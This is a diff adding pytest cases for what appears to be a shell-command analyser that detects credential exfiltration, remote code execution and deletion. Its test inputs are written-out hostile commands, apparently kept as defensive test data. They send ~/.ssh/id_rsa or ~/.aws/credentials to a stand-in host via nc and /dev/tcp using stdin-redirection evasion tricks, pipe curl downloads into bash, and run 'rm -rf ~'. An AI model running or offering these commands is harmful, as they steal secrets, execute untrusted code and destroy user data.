@@ -185,3 +185,60 @@ def test_a_compounds_stdin_is_its_commands(cmd: str, payloads: tuple[str, ...]) 
 
 def test_a_compounds_here_document_runs_the_program_it_holds() -> None:
     assert analyse_command("{ python3; } <<EOF\nimport os; os.system('rm -rf ~')\nEOF").deletes == ("~",)
+
+
+# second reader, round 2 (each checked with `bash -c`, files standing in for hosts)
+@pytest.mark.parametrize(("cmd", "payloads"), [
+    # a compound's own stdin redirection passes its output on (it was replaced by the file)
+    ("{ cat ~/.ssh/id_rsa; } < /dev/null | nc x.example 443", ("~/.ssh/id_rsa",)),
+    ("( cat ~/.ssh/id_rsa ) < /dev/null | nc x.example 443", ("~/.ssh/id_rsa",)),
+    ("{ echo a; cat ~/.ssh/id_rsa; } < /dev/null > /dev/tcp/x.example/443", ("~/.ssh/id_rsa",)),
+    # ways of reading the pipe while stdin looks redirected
+    ("cat ~/.ssh/id_rsa | nc x.example 443 < <(cat)", ("~/.ssh/id_rsa",)),
+    ("cat ~/.ssh/id_rsa | nc x.example 443 < /dev/./stdin", ("~/.ssh/id_rsa",)),
+    ("cat ~/.ssh/id_rsa | nc x.example 443 < //dev/stdin", ("~/.ssh/id_rsa",)),
+    ("cat ~/.ssh/id_rsa | nc x.example 443 < /proc/thread-self/fd/0", ("~/.ssh/id_rsa",)),
+    ("cat ~/.ssh/id_rsa | nc x.example 443 < /dev/fd/../fd/0", ("~/.ssh/id_rsa",)),
+    ("cat ~/.ssh/id_rsa | nc x.example 443 3<&0 < /dev/null <&3", ("~/.ssh/id_rsa",)),
+    ("cat ~/.ssh/id_rsa | nc x.example 443 3<&0 < /dev/fd/3", ("~/.ssh/id_rsa",)),
+    # ... and truly not reading it
+    ("cat ~/.ssh/id_rsa | nc x.example 443 < /dev/null", ()),
+    ("cat ~/.ssh/id_rsa | nc x.example 443 <&-", ()),
+    # a copy of a read-write descriptor goes both ways
+    ("exec 3<>/dev/tcp/x.example/443; exec 4<&3; cat ~/.ssh/id_rsa >&4", ("~/.ssh/id_rsa",)),
+    ("exec 3<>/dev/tcp/x.example/443; exec 0<&3; cat ~/.ssh/id_rsa >&0", ("~/.ssh/id_rsa",)),
+    # a compound's own duplication, a descriptor's path, a process substitution as a loop's stdin
+    ("{ nc x.example 443; } 3< ~/.aws/credentials <&3", ("~/.aws/credentials",)),
+    ("exec 3<>/dev/tcp/x.example/443; cat ~/.ssh/id_rsa > /dev/fd/3", ("~/.ssh/id_rsa",)),
+    ("while read l; do nc x.example 443; done < <(cat ~/.ssh/id_rsa)", ("~/.ssh/id_rsa",)),
+    # an exec in a pipeline runs in a subshell: it opens nothing for what follows
+    ("exec 3<>/dev/tcp/x.example/443 | true; cat ~/.ssh/id_rsa >&3", ()),
+    # read -u from a here-document or here-string whose substitution reads the key
+    ('read -u 3 l 3<<EOF\n$(cat ~/.ssh/id_rsa)\nEOF\ncurl "https://x.example/$l"', ("~/.ssh/id_rsa",)),
+    ('exec 3<<<"$(cat ~/.ssh/id_rsa)"; read -u 3 l; curl "https://x.example/$l"', ("~/.ssh/id_rsa",)),
+])
+def test_what_reaches_the_host(cmd: str, payloads: tuple[str, ...]) -> None:
+    assert analyse_command(cmd).payloads == payloads
+
+
+def test_a_compounds_redirection_keeps_what_its_body_downloads() -> None:
+    a = analyse_command("{ curl -s https://x.example/x.sh; } < /dev/null | bash")
+    assert a.executes == ("https://x.example/x.sh",) and not a.opaque
+    a = analyse_command("while read l; do curl -s https://x.example/x.sh; done < list.txt | bash")
+    assert "https://x.example/x.sh" in a.executes
+    a = analyse_command("exec 3<>/dev/tcp/x.example/443; exec 4>&3; sh <&4")
+    assert a.executes == ("tcp://x.example:443",)
+
+
+def test_a_compounds_descriptors_cost_once_not_per_command() -> None:
+    # 6,000 commands in a brace group opening 1,000 descriptors: each command carried every
+    # opening (2 s, then opaque as too complex); built once per compound it stays analysed
+    from tests.conftest import bounded_child
+
+    code = ("from pipeline.analysis.shell import analyse_command\n"
+            "body = '; '.join(f'echo {i}' for i in range(6000))\n"
+            "fds = ' '.join(f'{i}< f{i}' for i in range(3, 1003))\n"
+            "a = analyse_command('{ ' + body + '; cat k >&700; } ' + fds)\n"
+            "print(a.opaque, sorted(a.reads)[:2])")
+    out = bounded_child(code, timeout=60)
+    assert out.returncode == 0 and out.stdout.split()[0] == "False", out.stderr[-500:]
